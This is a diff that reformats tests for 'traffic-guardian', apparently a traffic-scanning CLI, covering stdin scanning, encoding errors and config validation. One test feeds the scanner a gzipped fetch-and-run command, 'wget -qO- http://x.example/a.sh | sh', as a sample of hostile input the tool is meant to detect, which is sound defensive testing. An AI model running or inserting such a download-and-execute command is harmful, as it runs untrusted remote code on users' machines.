@@ -26,7 +26,10 @@ describe('traffic-guardian scan', () => {
 
   it('reads stdin, decodes --content-encoding and prints JSON', async () => {
     const body = zlib.gzipSync('wget -qO- http://x.example/a.sh | sh\n');
-    const r = await runCli(['scan', '-', '--direction', 'inbound', '--content-encoding', 'gzip', '--json'], { env, input: body });
+    const r = await runCli(['scan', '-', '--direction', 'inbound', '--content-encoding', 'gzip', '--json'], {
+      env,
+      input: body,
+    });
     expect(r.code).toBe(3);
     const out = JSON.parse(r.stdout) as { findings: unknown[]; summary: { content_coding: string } };
     expect(out.summary.content_coding).toBe('gzip');
@@ -46,7 +49,10 @@ describe('traffic-guardian scan', () => {
     const badOpt = await runCli(['scan', '--direction', 'outbound', '--bogus'], { env, input: '' });
     expect(badOpt.code).toBe(2);
     expect(badOpt.stderr).toMatch(/bogus/);
-    const badEnc = await runCli(['scan', '-', '--direction', 'inbound', '--content-encoding', 'zstd'], { env, input: '' });
+    const badEnc = await runCli(['scan', '-', '--direction', 'inbound', '--content-encoding', 'zstd'], {
+      env,
+      input: '',
+    });
     expect(badEnc.code).toBe(2);
     expect(badEnc.stderr).toMatch(/zstd/);
   });
@@ -74,7 +80,13 @@ describe('traffic-guardian check-config', () => {
     const bad = path.join(dir, 'bad.json');
     writeFileSync(
       bad,
-      JSON.stringify({ proxy_port: 70000, max_scan_bytes: 10, bogus: 1, findings_log: { max_files: 0 }, disabled_rules: ['nope'] }),
+      JSON.stringify({
+        proxy_port: 70000,
+        max_scan_bytes: 10,
+        bogus: 1,
+        findings_log: { max_files: 0 },
+        disabled_rules: ['nope'],
+      }),
     );
     const r = await runCli(['check-config', bad], { env });
     expect(r.code).toBe(1);
